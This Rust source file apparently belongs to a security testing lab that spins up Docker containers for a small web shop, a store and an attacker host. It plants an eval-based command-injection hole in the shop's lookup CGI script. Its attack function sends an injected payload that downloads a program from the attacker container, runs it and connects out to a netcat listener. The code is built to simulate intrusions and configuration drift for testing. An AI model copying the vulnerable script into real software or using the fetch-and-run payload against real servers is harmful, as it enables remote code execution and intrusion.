//! A small web shop: a server in several replicas, the store it asks, and a place attackers serve from.
//!
//! The server is busybox httpd with two CGI scripts; `lookup` evaluates its query, which is the hole the
//! attack comes through. Traffic is real HTTP over the containers' own network.

use crate::docker::{Lab, docker};
use anyhow::{Context, Result};
use std::{
    io::{Read, Write},
    net::{SocketAddr, TcpStream},
    sync::{
        Arc,
        atomic::{AtomicBool, AtomicU64, Ordering},
    },
    thread::JoinHandle,
    time::Duration,
};

const SERVE: &str = "#!/bin/sh\nexec httpd -f -p 8080 -h /www\n";
const STOCK: &str =
    "#!/bin/sh\necho 'Content-Type: text/plain'; echo\nwget -q -O - \"http://$STORE:8080/stock.txt\"\n";
const LOOKUP: &str = "#!/bin/sh\necho 'Content-Type: text/plain'; echo\n\
     item=$(httpd -d \"${QUERY_STRING#item=}\")\neval \"echo price of $item: 12\"\n";
/// Hands out the file that the attack fetches, and takes its connection.
const ATTACKER: &str =
    "#!/bin/sh\nhttpd -p 8080 -h /www\nwhile :; do nc -l -p 4444 </dev/null >/dev/null; done\n";
/// Requests a client makes in turn.
const REQUESTS: [&str; 4] =
    ["/index.html", "/cgi-bin/stock", "/cgi-bin/lookup?item=tea", "/cgi-bin/lookup?item=mug"];

/// The shop's containers.
pub struct Shop {
    lab: Lab,
    image: String,
    attacker: String,
    replicas: usize,
}

impl Shop {
    /// Builds the images and starts everything.
    ///
    /// # Errors
    /// If the engine refuses.
    pub fn open(name: &str, replicas: usize) -> Result<Self> {
        let mut lab = Lab::new(name)?;
        let repository = |part: &str| format!("plumbline-{name}-{}/{part}", std::process::id());
        let index = ("www/index.html", "Shop\n");
        let files =
            [("app/serve", SERVE), ("www/cgi-bin/stock", STOCK), ("www/cgi-bin/lookup", LOOKUP), index];
        let image = lab.image(&repository("web"), &files, &["/app/serve"])?;
        let files = [("app/serve", SERVE), ("www/stock.txt", "tea 3\nmug 5\n")];
        let store = lab.image(&repository("store"), &files, &["/app/serve"])?;
        let tool = ("app/run", ATTACKER);
        let attacker = lab.image(&repository("attacker"), &[tool, ("www/empty", "")], &["/app/run"])?;
        let store = lab.run(&store, "store", &[], &[])?;
        let attacker = lab.run(&attacker, "attacker", &[], &[])?;
        // The tool that the attack drops: a program that no other image holds under this name.
        docker(&["exec", &attacker, "cp", "/bin/busybox", "/www/nc"])?;
        let store = format!("STORE={}", lab.address(&store)?);
        let shop = Self { image: image.trim_end_matches(":1").to_owned(), lab, attacker, replicas };
        for replica in 0..replicas {
            shop.lab.run(&image, &format!("web-{replica}"), &["--env", &store], &[])?;
        }
        Ok(shop)
    }

    /// Repository of the server's image.
    pub fn image(&self) -> &str {
        &self.image
    }

    /// Whether a repository is one of the shop's images.
    pub fn owns(&self, repository: &str) -> bool {
        let prefix = self.image.rsplit_once('/').map_or("", |(prefix, _)| prefix);
        repository.rsplit_once('/').is_some_and(|(of, _)| of == prefix)
    }

    /// Full name of a replica's container.
    pub fn replica(&self, replica: usize) -> String {
        self.lab.container(&format!("web-{replica}"))
    }

    /// Restarts a replica, as a deployment would.
    ///
    /// # Errors
    /// If the engine refuses.
    pub fn restart(&self, replica: usize) -> Result<()> {
        docker(&["restart", "--time", "1", &self.replica(replica)]).map(drop)
    }

    /// An operator changes a running replica by hand: edits a page and opens a second port.
    ///
    /// # Errors
    /// If the engine refuses.
    pub fn drift(&self, replica: usize) -> Result<()> {
        let change = "sed -i s/Shop/Sale/ /www/index.html; httpd -p 9090 -h /www";
        docker(&["exec", &self.replica(replica), "sh", "-c", change]).map(drop)
    }

    /// An attacker comes in through the hole in `lookup`, drops a program and has it connect out.
    ///
    /// # Errors
    /// If the replica does not answer.
    pub fn attack(&self, replica: usize) -> Result<()> {
        let home = self.lab.address(&self.attacker)?;
        let payload = format!(
            "x;wget -q -O /tmp/nc http://{home}:8080/nc;chmod 755 /tmp/nc;/tmp/nc {home} 4444 </dev/null;echo"
        );
        let encoded: String = payload.bytes().map(|byte| format!("%{byte:02x}")).collect();
        get(&self.lab.address(&self.replica(replica))?, &format!("/cgi-bin/lookup?item={encoded}")).map(drop)
    }

    /// Clients that ask every replica, again and again, until dropped.
    ///
    /// # Errors
    /// If a replica has no address.
    pub fn traffic(&self) -> Result<Traffic> {
        let names: Vec<String> = (0..self.replicas).map(|replica| self.replica(replica)).collect();
        let stop = Arc::new(AtomicBool::new(false));
        let answers = Arc::new(AtomicU64::new(0));
        let mut addresses = Vec::new();
        for name in &names {
            addresses.push(self.lab.address(name)?);
        }
        let (stopped, counted) = (stop.clone(), answers.clone());
        let thread = std::thread::spawn(move || {
            'clients: loop {
                for request in REQUESTS {
                    for address in &addresses {
                        if stopped.load(Ordering::Relaxed) {
                            break 'clients;
                        }
                        // A replica that restarts does not answer for a while; clients live with that.
                        if get(address, request).is_ok() {
                            counted.fetch_add(1, Ordering::Relaxed);
                        }
                        std::thread::park_timeout(Duration::from_millis(10));
                    }
                }
            }
        });
        Ok(Traffic { stop, answers, thread: Some(thread) })
    }
}

/// Running clients.
pub struct Traffic {
    stop: Arc<AtomicBool>,
    answers: Arc<AtomicU64>,
    thread: Option<JoinHandle<()>>,
}

impl Traffic {
    /// Answers received so far.
    pub fn answers(&self) -> u64 {
        self.answers.load(Ordering::Relaxed)
    }
}

impl Drop for Traffic {
    fn drop(&mut self) {
        self.stop.store(true, Ordering::Relaxed);
        if let Some(thread) = self.thread.take() {
            let _ = thread.join();
        }
    }
}

fn get(address: &str, path: &str) -> Result<String> {
    let address: SocketAddr = format!("{address}:8080").parse().context("a replica has no address")?;
    let mut stream = TcpStream::connect_timeout(&address, Duration::from_secs(1))?;
    stream.set_read_timeout(Some(Duration::from_secs(5)))?;
    write!(stream, "GET {path} HTTP/1.0\r\nHost: shop\r\n\r\n")?;
    let mut answer = String::new();
    stream.read_to_string(&mut answer)?;
    Ok(answer)
}
